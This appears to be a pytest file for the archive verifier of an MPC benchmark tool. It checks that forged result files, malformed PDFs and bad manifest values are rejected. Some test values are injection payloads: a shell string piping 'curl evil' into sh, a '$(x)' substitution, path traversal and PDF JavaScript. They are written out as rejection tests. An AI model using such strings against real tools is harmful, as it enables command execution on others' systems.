"""`verify` against forged archives: whatever file is altered, no word of the outcome says that it was compared."""

import json
import re
import time
import zlib
from itertools import count
from pathlib import Path

import packed
import pytest
from execution.test_own_experiment import written
from forged_packs import METADATA, archive_with, forged
from own_experiment import write_own
from small_experiment import cli, write

import rmpc_bench
from rmpc_bench.packing.comparison import _parts, compared, same_but_fonts
from rmpc_bench.received.archive import ArchiveError
from rmpc_bench.types import ConfigError

CONFIGS = Path(__file__).parents[2] / "configs"
CLAIMS = """
  - {id: better, says: R-MPC wins, source: s, check: 'mean(mse[R-MPC]) < mean(mse[S-MPC])', finding: confirmed}
"""
INPUTS = ("config.yaml", "config.resolved.yaml", "manifest.json", METADATA)
COMPARED = ("compared, equal bytes", "compared, equal to 1e-9")
PAPERS = {
    "zenere2018": "zenere2018/fig7",
    "souto2011": "souto2011/fig2",
    "ma2025": "ma2025/table1",
    "belda2017": "belda2017/exp1",
    "wkf2018": "wkf2018/fig5",
}
"""A configuration of every paper."""


def packed_results(path, directory, *options):
    """Compute an experiment with its report and pack it."""
    done = cli("run", path, "-o", directory / "out", "-j", 1, "--progress", "none", *options)
    assert done.exit_code in (0, 4), done.output
    done = cli("pack", directory / "out", "-o", directory / "honest.zip", "--author", "A. Author")
    assert done.exit_code == 0, done.output
    return directory / "honest.zip"


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """An archive with claims, a figure, recorded runs, uncertain quantities and series."""
    place = tmp_path_factory.mktemp("small")
    keys = {"claims": CLAIMS, "paper": "zenere2018", "figures": "[boxplot]", "record": "{runs: 2, signals: [y, u]}"}
    path = write(place, runs=6, metrics="[mse, input_power, settling_time]", **keys)
    return packed_results(path, place)


def words(path, **options):
    """Verify an archive; return the result and file -> word."""
    found = rmpc_bench.verify(path, jobs=1, allow_code=[path], **options)
    return found, {each.name: each.word for each in found.files}


def derived(path):
    """Name the files that are not input."""
    # Without a column that has its name trials.csv is refused at once.
    inputs = (*INPUTS, "verified_on.json", "timings.csv", "trials.csv")
    return [name for name in packed.contents(path) if name not in inputs and not name.startswith(("code/", "data/"))]


def not_passed(archive, to, kind, seed=0):
    """Alter every file and assert that none of them is called compared: derived ones at once, inputs one by one."""
    content = packed.contents(archive)
    changes = {name: forged(content[name], name, kind, seed) for name in derived(archive)}
    changes = {name: change for name, change in changes.items() if change is not None}
    found, outcome = words(archive_with(archive, to, changes))
    assert not found.reproduced and changes
    assert {name: outcome[name] for name in changes if outcome[name] != "different"} == {}
    altered = [name for name in content if name not in changes and name != "verified_on.json"]
    for name in altered:
        change = forged(content[name], name, kind, seed)
        if change is None:
            continue
        try:
            found, outcome = words(archive_with(archive, to, {name: change}))
        except (ConfigError, ArchiveError):
            continue
        assert outcome[name] in ("different", "only hashed"), name
        assert not found.reproduced or name not in INPUTS[1:2], name


@pytest.mark.parametrize(
    "kind", ["either", *(pytest.param(kind, marks=pytest.mark.slow) for kind in ("digit", "word"))]
)
def test_no_forged_file_is_called_compared(small, tmp_path, kind):
    not_passed(small, tmp_path / "bad.zip", kind)


def test_an_honest_archive_names_what_was_not_compared(small, tmp_path):
    path = archive_with(small, tmp_path / "copy.zip", {METADATA: packed.contents(small)[METADATA]})
    done = cli("verify", path, "-j", 1)
    assert done.exit_code == 0 and "reproduced   all 6 runs, 2 methods" in done.stdout, done.output
    names = packed.contents(path)
    assert f"{len(names)} files: {len(names) - 4} compared, equal bytes" in done.stdout
    for text in ("only hashed\n", "  config.yaml   input: resolves to", "not looked at\n  verified_on.json"):
        assert text in done.stdout, done.stdout
    (record,) = json.loads(names["verified_on.json"])
    assert record["files"].keys() == names.keys() and record["files"]["report.html"] == COMPARED[0]


def on_another_machine(content):
    """A manifest of another machine, or with another version of the bench."""
    data = json.loads(content)
    data["platform"]["machine"] = "other"
    return json.dumps(data).encode()


def test_another_machine_may_differ_in_the_last_digits_only(small, tmp_path):
    """Tables are then made from the packed rows; what differs above the ninth digit is found there, too."""
    content = packed.contents(small)
    manifest = {"manifest.json": on_another_machine(content["manifest.json"])}
    found, outcome = words(archive_with(small, tmp_path / "other.zip", manifest))
    assert found.reproduced and outcome["trials.csv"] == COMPARED[1] and outcome["report.html"] == COMPARED[0]
    lines = content["uncertainty.csv"].decode().splitlines()
    value = lines[1].split(",")[1]
    near = content["uncertainty.csv"].replace(value.encode(), repr(float(value) * (1 + 1e-12)).encode())
    found, outcome = words(archive_with(small, tmp_path / "near.zip", {**manifest, "uncertainty.csv": near}))
    assert found.reproduced and outcome["uncertainty.csv"] == COMPARED[1]
    changes = {name: forged(content[name], name, "digit") for name in derived(small)}
    changes = {name: change for name, change in changes.items() if change is not None}
    found, outcome = words(archive_with(small, tmp_path / "bad.zip", {**manifest, **changes}))
    passed = {name for name in changes if outcome[name] in COMPARED}
    assert not found.reproduced and passed == set()


def manifest_with(path, *changes):
    """Return manifest.json of an archive with other values, each given by its keys and the value."""
    data = json.loads(packed.contents(path)["manifest.json"])
    for *keys, last, value in changes:
        place = data
        for key in keys:
            place = place.setdefault(key, {})
        place[last] = value
    return {"manifest.json": json.dumps(data).encode()}


ELSEWHERE = ("platform", "machine", "other")


@pytest.mark.parametrize("name", ["tables/summary.md", "tables/mse.tex", "figures/boxplot.svg"])
def test_an_infinite_number_equals_no_other(small, tmp_path, name):
    content = re.sub(rb"(?<![\d.])\d+\.\d+", b"1e999", packed.contents(small)[name], count=3)
    changes = manifest_with(small, ELSEWHERE) | {name: content}
    assert words(archive_with(small, tmp_path / "inf.zip", changes))[1][name] == "different"


@pytest.mark.parametrize(("name", "number"), [("mean", "inf"), ("median", "nan"), ("n_failed", "inf")])
def test_a_number_of_the_summary_that_is_none_does_not_follow_from_the_rows(small, tmp_path, name, number):
    lines = packed.contents(small)["summary.csv"].decode().splitlines()
    column = lines[0].split(",").index(name)
    cells = lines[1].split(",")
    lines[1] = ",".join([*cells[:column], number, *cells[column + 1 :]])
    path = archive_with(small, tmp_path / "bad.zip", {"summary.csv": "\n".join(lines).encode()})
    assert f"{name}: summary.csv" in str(words(path, simulate=False)[0])


def with_lines(path, to, change, **options):
    """Verify a copy on another machine whose trials.csv has other rows."""
    head, *rows = packed.contents(path)["trials.csv"].decode().splitlines()
    content = "\n".join([head, *change(rows), ""]).encode()
    return words(archive_with(path, to, manifest_with(path, ELSEWHERE) | {"trials.csv": content}), **options)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda rows: [rows[0], rows[0], *rows[2:]], "row 2: is given twice"),
        (lambda rows: [*rows, rows[-1]], "has more than 12 rows"),
        (lambda rows: [rows[0].replace("S-MPC,0,", "S-MPC,6,"), *rows[1:]], "row 1: is of no trial"),
        (lambda rows: [rows[0].replace("S-MPC,", "X-MPC,"), *rows[1:]], "row 1: is of no trial"),
        (lambda rows: [rows[0].replace(",ok,", ",fine,"), *rows[1:]], "row 1: is of no trial"),
        (lambda rows: rows * 100_000, "has more than 12 rows"),
    ],
)
def test_every_row_is_of_one_trial(small, tmp_path, change, reason):
    with pytest.raises(ArchiveError, match=reason):
        with_lines(small, tmp_path / "bad.zip", change)


@pytest.mark.parametrize("options", [{}, {"runs": 2}, {"claim": "better"}])
def test_a_row_that_was_left_out_is_named(small, tmp_path, options):
    found, _ = with_lines(small, tmp_path / "bad.zip", lambda rows: [rows[0], *rows[2:]], **options)
    assert "S-MPC: 1 runs are computed only here (1)" in found.differences


def test_a_stated_label_that_no_configuration_gives_has_no_effect(small, tmp_path):
    labels = {"S-MPC": "R-MPC (robust)", "R-MPC": "S-MPC"}
    path = archive_with(small, tmp_path / "bad.zip", manifest_with(small, ("report", "labels", labels)))
    assert words(path)[0].reproduced


BREAK = "contains the control or invisible character U\\+"
REFUSED = [
    (("files", {"my-law": "R-MPC"}), "files: 'my-law' and 'R-MPC' are not the names of one data file"),
    (("modified", ["--runs 4; curl evil | sh #"]), r"modified\[0\]: must be an option"),
    (("modified", ["-s a=$(x)"]), r"modified\[0\]: must be an option"),
    (("report", "place", "/etc"), "report.place: must be a plain relative path"),
    (("report", "place", "../x"), "report.place: must be a plain relative path"),
    (("report", "place", "-o"), "report.place: must be a plain relative path"),
    (("report", "place", "a\nb"), f"report.place: {BREAK}000A"),
    (("report", "matplotlib", "1\t2"), f"report.matplotlib: {BREAK}0009"),
    (("versions", "python", "3\n\nx.zip: reproduced"), f"versions.python: {BREAK}000A"),
    (("versions", "a\nb", "1"), f"versions: the name: {BREAK}000A"),
    (("libraries", "a", "3\u2028"), f"libraries.a: {BREAK}2028"),
    (("platform", "system", "a\u200b"), f"platform.system: {BREAK}200B"),
    (("blas", [{"architecture": "a\nb"}]), rf"blas\[0\].architecture: {BREAK}000A"),
    (("git", {"commit": "abc"}), "git.commit: must have 40 hexadecimal digits"),
]


@pytest.mark.parametrize(("change", "reason"), REFUSED, ids=str)
def test_what_a_manifest_must_not_say(small, tmp_path, change, reason):
    with pytest.raises(ArchiveError, match=reason):
        words(archive_with(small, tmp_path / "bad.zip", manifest_with(small, change)))


def test_no_text_of_an_archive_begins_a_line(small, tmp_path):
    summary = packed.contents(small)["summary.csv"].replace(b"\nS-MPC,", b'\n"S-MPC\n\nx.zip: reproduced",', 1)
    found, _ = words(archive_with(small, tmp_path / "bad.zip", {"summary.csv": summary}), simulate=False)
    assert not found.reproduced and "\\n\\nx.zip: reproduced" in str(found) and "\nx.zip" not in str(found)


def test_the_commands_of_a_page_quote_its_directory(tmp_path):
    path = write(tmp_path, runs=2)
    assert cli("run", path, "-o", tmp_path / "x; y", "-j", 1, "--progress", "none").exit_code == 0
    assert "rmpc-bench show &#39;x; y&#39; --run" in (tmp_path / "x; y" / "report.html").read_text("utf-8")


@pytest.fixture(scope="module")
def drawing(small):
    """A PDF file that the archive of a figure has."""
    return packed.contents(small)["figures/boxplot.pdf"]


def compared_pdf(content, drawing, tmp_path):
    """Compare two PDF files as those of two machines."""
    for name, each in (("a.pdf", content), ("b.pdf", drawing)):
        (tmp_path / name).write_bytes(each)
    return compared("x.pdf", tmp_path / "a.pdf", tmp_path / "b.pdf", exact=False).word


def changed_stream(content, change, after=b""):
    """Alter the first stream of a PDF file, or the first after a text, and all that says where something stands."""
    start = content.index(b"stream\n", content.index(after)) + 7
    end = content.index(b"\nendstream", start)
    stream = zlib.compress(change(zlib.decompress(content[start:end])), 1)
    # The length stands before the stream of a font and behind the one of a page.
    before = re.sub(rb"(?<=/Length )\d+(?= /Filter[^\n]*\nstream\n\Z)", b"%d" % len(stream), content[:start])
    content = before + stream + content[end:]
    content = content.replace(b"obj\n%d\nendobj" % (end - start), b"obj\n%d\nendobj" % len(stream), 1)
    number = count(1)
    places = lambda _: b"%010d" % (content.index(b"\n%d 0 obj\n" % next(number)) + 1)  # noqa: E731
    content = re.sub(rb"\d{10}(?= 0{5} n)", places, content)
    return re.sub(rb"(?<=startxref\n)\d+", b"%d" % content.rindex(b"xref\n0 "), content)


def test_a_pdf_file_of_another_machine(drawing, tmp_path):
    """Numbers that are equal to 1e-9 may make other lengths and places."""
    same = changed_stream(drawing, lambda text: re.sub(rb"(\d\.\d+)(?= )", rb"\g<1>00", text, count=1))
    assert same != drawing and compared_pdf(same, drawing, tmp_path) == COMPARED[1]
    other = changed_stream(drawing, lambda text: re.sub(rb"(\d\.)(?=\d)", rb"\g<1>1", text, count=1))
    assert compared_pdf(other, drawing, tmp_path) == "different"


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (x) >>", 1),
        lambda text: re.sub(rb"/MediaBox \[ 0 0", b"/MediaBox [ 9 9", text),
        lambda text: re.sub(rb"(?<=/Length )\d+(?= /Filter)", b"1", text, count=1),
        lambda text: re.sub(rb"(?<=obj\n)\d+(?=\nendobj)", b"1", text, count=1),
        lambda text: re.sub(rb"(\d{10})( 0{5} n \n)(\d{10})", rb"\3\2\1", text, count=1),
        lambda text: re.sub(rb"(?<=startxref\n)\d+", b"9", text),
        lambda text: text.replace(b"\nendstream", b"1\nendstream", 1),
        lambda text: text + b"1 0 obj",
        lambda text: b"stream\n" * 1_000,
    ],
)
def test_all_of_a_pdf_file_is_compared(drawing, tmp_path, change):
    assert change(drawing) != drawing and compared_pdf(change(drawing), drawing, tmp_path) == "different"


def test_other_embedded_fonts_are_no_difference_of_the_drawing(drawing, tmp_path):
    """Outlines of a font and the order of its glyphs follow from the version of a library; all else is compared."""
    a, b = tmp_path / "a.pdf", tmp_path / "b.pdf"
    b.write_bytes(drawing)
    for key in (b"FontFile2", b"CIDToGIDMap"):
        place = b"\n%s 0 obj\n" % re.search(rb"/%s (\d+) 0 R" % key, drawing)[1]
        other = changed_stream(drawing, lambda stream: stream + b"\0", after=place)
        assert compared_pdf(other, drawing, tmp_path) == "different"
        a.write_bytes(other)
        assert same_but_fonts(a, b)
        a.write_bytes(changed_stream(other, lambda text: re.sub(rb"(\d\.)(?=\d)", rb"\g<1>1", text, count=1)))
        assert not same_but_fonts(a, b)
        a.write_bytes(other + b"\n" * 200_000)
        assert not same_but_fonts(a, b)


@pytest.mark.parametrize("name", ["a.pdf", "a.tex", "a.csv"])
def test_a_file_that_is_much_larger_is_not_read(tmp_path, monkeypatch, name):
    (tmp_path / name).write_bytes(b"stream\n" * 140_000)
    (tmp_path / "here").write_bytes(b"stream\n1\nendstream")
    monkeypatch.setattr(Path, "read_bytes", lambda path: pytest.fail(f"{path} is read"))
    found = compared(name, tmp_path / name, tmp_path / "here", exact=False)
    assert found.is_different and found.note == "has 980000 bytes, here 18"


def test_a_stream_of_a_pdf_file_that_is_much_longer(tmp_path):
    """The content of a stream is as limited as the file; many beginnings of streams are read once."""
    long = b"stream\n" + zlib.compress(b"1 " * 10_000_000) + b"\nendstream"
    assert compared_pdf(long, b"stream\n1\nendstream", tmp_path) == "different"
    start = time.process_time()
    assert len([*_parts(b"stream\n" * 140_000)]) == 1 and time.process_time() - start < 2


def test_pages_of_another_version_are_named_and_not_compared(small, tmp_path):
    content = packed.contents(small)
    data = json.loads(content["manifest.json"])
    data["versions"]["rmpc-bench"] = "0.0.9"
    changes = {"manifest.json": json.dumps(data).encode(), "report.html": content["report.html"] + b"<!-- -->"}
    found, outcome = words(archive_with(small, tmp_path / "old.zip", changes))
    assert outcome["report.html"] == "not compared, made by rmpc-bench 0.0.9"
    assert "not compared, made by rmpc-bench 0.0.9\n  report.html" in str(found)


@pytest.mark.parametrize("options", [{"runs": 2}, {"simulate": False}])
def test_empty_and_binary_tables_are_found_without_all_runs(small, tmp_path, options):
    path = archive_with(small, tmp_path / "bad.zip", {"summary.csv": b"", "comparisons.csv": b"\0\xff"})
    assert not words(path, **options)[0].reproduced


def test_part_of_the_runs_says_how_little_that_is(small, tmp_path):
    """A row that was not computed again passes, and the text says so."""
    content = packed.contents(small)
    done = cli("verify", archive_with(small, tmp_path / "copy.zip", {}), "--runs", 2, "-j", 1)
    assert "4 of 6 runs were not computed, their rows are taken as packed" in done.stdout, done.output
    assert "  trials.csv   rows of runs 0 to 1 are compared" in done.stdout
    assert "  report.html   needs all runs" in done.stdout
    changes = {name: forged(content[name], name, "digit") for name in ("tables/mse.tex", "claims.json", "summary.csv")}
    _, outcome = words(archive_with(small, tmp_path / "bad.zip", changes), runs=2)
    assert {outcome[name] for name in changes} == {"different"}


def test_files_that_are_missing_or_added(small, tmp_path):
    content = packed.contents(small)
    metadata = json.loads(content.pop(METADATA))
    gone = "tables/mse.tex"
    del content[gone]
    metadata["@graph"] = [each for each in metadata["@graph"] if each["@id"] != gone]
    path = packed.write(tmp_path / "bad.zip", content | {METADATA: json.dumps(metadata).encode()})
    found, outcome = words(path)
    assert outcome[gone] == "different" and f"{gone}: is missing" in str(found)


def test_the_report_is_made_with_the_options_that_made_it(tmp_path):
    """Width, order and formats of `report`, and a directory below `results`."""
    path = write(tmp_path, runs=4, figures="[boxplot]")
    out = tmp_path / "results" / "mine"
    assert cli("run", path, "-o", out, "-j", 1, "--progress", "none").exit_code == 0
    options = ["--width", "88mm", "--order", "R-MPC,S-MPC", "--format", "svg", "--style", "paper"]
    assert cli("report", out, *options).exit_code == 0
    assert cli("pack", out, "-o", tmp_path / "x.zip").exit_code == 0
    found, outcome = words(tmp_path / "x.zip")
    assert found.reproduced, found
    # Files of the first report, which the second one does not make.
    assert outcome["figures/boxplot.pdf"] == "not looked at" and outcome["figures/boxplot.svg"] == COMPARED[0]


@pytest.mark.parametrize("keys", [{"format": ["pgf", "svg"]}, {"order": 5}, ["x"]])
def test_what_the_manifest_asks_of_the_report_runs_no_latex(small, tmp_path, monkeypatch, keys):
    """LaTeX reads and writes files; wrong keys are refused."""

    def refuse():
        raise AssertionError("LaTeX was called")

    monkeypatch.setattr("rmpc_bench.figures.files.as_latex", refuse)
    data = json.loads(packed.contents(small)["manifest.json"])
    data["report"]["keys"] = keys
    path = archive_with(small, tmp_path / "bad.zip", {"manifest.json": json.dumps(data).encode()})
    found = cli("verify", path, "-j", 1)
    expected = found.exit_code == 1 if "format" in keys else f"{path}: manifest.json: report" in found.stderr
    assert expected and found.exit_code in (1, 2), found.output


@pytest.mark.slow
@pytest.mark.parametrize("jobs", [1, 2])
@pytest.mark.parametrize("paper", PAPERS)
def test_every_paper_at_smoke_size_is_reproduced(tmp_path, paper, jobs):
    archive = packed_results(CONFIGS / f"{PAPERS[paper]}.yaml", tmp_path, "--smoke")
    done = cli("verify", archive, "-j", jobs)
    assert done.exit_code == 0 and "reproduced" in done.stdout, done.output


@pytest.mark.slow
@pytest.mark.parametrize("name", ["two-tanks", "pendulum"])
def test_examples_with_own_components_are_reproduced(tmp_path, name):
    archive = packed_results(CONFIGS / "examples" / f"{name}.yaml", tmp_path, "--smoke")
    for jobs in (1, 2):
        done = cli("verify", archive, "-j", jobs, "--allow-code", archive)
        assert done.exit_code == 0 and "reproduced" in done.stdout, done.output


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["digit", "word"])
@pytest.mark.parametrize("name", ["quickstart", "fig7", "own", "tank"])
def test_no_forged_file_of_larger_archives_is_called_compared(tmp_path, name, kind):
    """With failed, held and warning runs (own), and with data files (tank)."""
    made = {
        "quickstart": lambda: packed_results(CONFIGS / "quickstart.yaml", tmp_path, "--runs", 4),
        "fig7": lambda: packed_results(CONFIGS / "zenere2018" / "fig7.yaml", tmp_path, "--smoke"),
        "own": lambda: packed_results(write_own(tmp_path), tmp_path),
        "tank": lambda: packed_results(written(tmp_path), tmp_path),
    }
    not_passed(made[name](), tmp_path / "bad.zip", kind)
